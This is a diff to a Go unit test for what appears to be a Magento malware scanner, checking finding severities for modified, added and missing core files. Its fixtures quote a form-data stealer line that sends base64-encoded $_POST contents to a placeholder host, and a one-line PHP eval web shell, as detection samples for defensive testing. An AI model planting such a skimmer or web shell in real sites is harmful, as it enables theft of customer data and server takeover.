@@ -16,17 +16,22 @@ func TestCoreFindingsShowStealerLines(t *testing.T) {
 				Foreign: []m1core.Line{{N: 412, Text: "@file_get_contents('https://x.example/?c='.base64_encode(serialize($_POST)));"}}},
 			{Path: "skin/frontend/base/default/css/styles.css", Lines: false, Size: 10},
 		},
-		Added:   []m1core.Change{{Path: "errors/x.php", Code: true, Lines: true}},
+		Added: []m1core.Change{{Path: "errors/x.php", Code: true, Lines: true, ForeignLines: 1, Foreign: []m1core.Line{{N: 1, Text: "<?php eval($_POST[1]);"}}},
+			{Path: "app/code/core/Mage/Core/Model/UrlCopy.php", Code: true, Lines: true}},
 		Missing: []string{"js/varien/js.js"}}
 	fs, high := coreFindings(res)
-	if !high || len(fs) != 4 {
+	if !high || len(fs) != 5 {
 		t.Fatalf("high %v, %d findings: %+v", high, len(fs), fs)
 	}
 	if f := fs[0]; f.Severity != SeverityHigh || f.Line != 412 || !strings.Contains(f.Evidence, "base64_encode(serialize($_POST))") {
 		t.Errorf("stealer finding %+v", f)
 	}
-	if fs[1].Severity != SeverityMedium || fs[2].Severity != SeverityHigh || fs[3].Severity != SeverityLow {
-		t.Errorf("severities %s %s %s", fs[1].Severity, fs[2].Severity, fs[3].Severity)
+	// css: medium; added PHP with a foreign line: high; a copy whose every
+	// line is in a release (a backup, an older patch): medium; missing: low.
+	for i, want := range []Severity{SeverityHigh, SeverityMedium, SeverityHigh, SeverityMedium, SeverityLow} {
+		if fs[i].Severity != want {
+			t.Errorf("%s: severity %s, want %s", fs[i].Path, fs[i].Severity, want)
+		}
 	}
 }
 
